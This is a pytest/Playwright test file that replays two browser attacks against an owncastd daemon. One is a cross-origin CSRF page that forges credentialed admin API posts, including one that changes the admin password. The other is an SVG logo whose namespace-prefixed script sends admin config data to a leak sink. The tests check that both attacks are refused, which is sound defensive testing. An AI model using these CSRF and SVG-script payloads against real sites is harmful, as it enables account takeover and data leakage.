"""Issue 16's browser attacks, replayed in chromium against a real owncastd.

1. A page on another port of the same host (same site, another origin) fires `no-cors` fetches
   with typeless Blob bodies at the admin API while the browser holds the admin's Basic
   credentials: the stream title, the admin password and the disconnect must not be touched.
2. A logo SVG with a namespace-prefixed script (what the old regex let in), opened at /logo with
   the admin's credentials cached: its script must not run (the served CSP sandboxes it).
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.browser.test_viewer_page import CHROMIUM, CHROMIUM_ARGS
from tests.e2e.harness import ADMIN_PASSWORD, DaemonProcess, wait_for, write_config

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

ADMIN = ("admin", ADMIN_PASSWORD)
FORGED_POSTS = {
    "/api/admin/config/streamtitle": '{"value": "pwned title"}',
    "/api/admin/config/name": '{"value": "pwned name"}',
    "/api/admin/config/adminpass": '{"value": "attacker-password"}',
    "/api/admin/disconnect": "",
}
ATTACK_PAGE = """<!doctype html><meta charset="utf-8"><title>cute cats</title><script>
const target = %(target)r;
const posts = %(posts)s;
async function attack() {
  const shots = Object.entries(posts).map(([path, body]) => fetch(target + path, {
    method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([body]),
  }).catch(() => null));
  shots.push(fetch(target + '/api/admin/disconnect', {mode: 'no-cors', credentials: 'include'})
    .catch(() => null));
  await Promise.allSettled(shots);
  document.body.dataset.done = 'yes';
}
attack();
</script><body>cats</body>"""
EVIL_LOGO = """<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
<s:script xmlns:s="http://www.w3.org/2000/svg">
document.documentElement.setAttribute('data-ran', 'yes');
fetch('/api/admin/serverconfig', {credentials: 'include'}).then(r => r.text()).then(t =>
  fetch('%(leak)s?n=' + t.length, {mode: 'no-cors'}));
</s:script><rect width="10" height="10"/></svg>"""


class AttackerSite:
    """A tiny HTTP server on another port of 127.0.0.1: the attack page and a leak sink."""

    def __init__(self, page: str) -> None:
        self.leaks: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path.startswith("/leak"):
                    site.leaks.append(self.path)
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def chromium_admin() -> Iterator[Any]:
    """A chromium context that answers Basic challenges as the admin (and so caches them)."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS
        )
        context = browser.new_context(
            http_credentials={"username": "admin", "password": ADMIN_PASSWORD}
        )
        yield context
        browser.close()


def test_a_same_site_page_cannot_drive_the_admin_api(tmp_path: Path, chromium_admin) -> None:
    write_config(tmp_path)
    daemon = DaemonProcess(tmp_path).wait_ready()
    attacker = None
    try:
        page = chromium_admin.new_page()
        # The admin uses the admin API in this browser: Basic credentials are now cached.
        assert page.goto(daemon.url + "/api/admin/status").status == 200
        attacker = AttackerSite(
            ATTACK_PAGE % {"target": daemon.url, "posts": json.dumps(FORGED_POSTS)}
        )
        statuses: dict[str, list[int]] = {}
        page.on(
            "response",
            lambda r: (
                statuses.setdefault(r.url.removeprefix(daemon.url), []).append(r.status)
                if r.url.startswith(daemon.url)
                else None
            ),
        )
        page.goto(attacker.url + "/")
        page.wait_for_selector("body[data-done=yes]", timeout=15_000)
        wait_for(lambda: len(statuses) >= len(FORGED_POSTS), 10, "responses", daemon.log)
        config = httpx.get(daemon.url + "/api/admin/serverconfig", auth=ADMIN, timeout=10)
        assert config.status_code == 200, "the admin password was changed"
        details = config.json()["instanceDetails"]
        assert details["streamTitle"] != "pwned title"
        assert details["name"] != "pwned name"
        for path in FORGED_POSTS:
            final = statuses[path][-1]
            assert final in (403, 415), (path, statuses, daemon.log())
        assert "forged request refused" in daemon.log()
    finally:
        if attacker is not None:
            attacker.close()
        daemon.stop()


def test_a_scripted_svg_logo_runs_nothing(tmp_path: Path, chromium_admin) -> None:
    attacker = AttackerSite("ok")
    config = write_config(tmp_path)
    text = config.read_text().replace("[admin]", '[server]\nlogo = "evil.svg"\n\n[admin]', 1)
    config.write_text(text)
    # What an upload before the fix could leave: the regex did not see a prefixed script.
    (tmp_path / "evil.svg").write_text(EVIL_LOGO % {"leak": attacker.url + "/leak"})
    daemon = DaemonProcess(tmp_path).wait_ready()
    try:
        page = chromium_admin.new_page()
        assert page.goto(daemon.url + "/api/admin/status").status == 200
        console: list[str] = []
        page.on("console", lambda message: console.append(message.text))
        response = page.goto(daemon.url + "/logo")  # the SVG's script would run while parsing
        assert response is not None and response.status == 200
        assert page.evaluate("document.documentElement.getAttribute('data-ran')") is None
        assert "sandbox" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        refused = ("sandboxed", "Content Security Policy")
        assert any(word in line for line in console for word in refused), console
        assert attacker.leaks == []
    finally:
        attacker.close()
        daemon.stop()
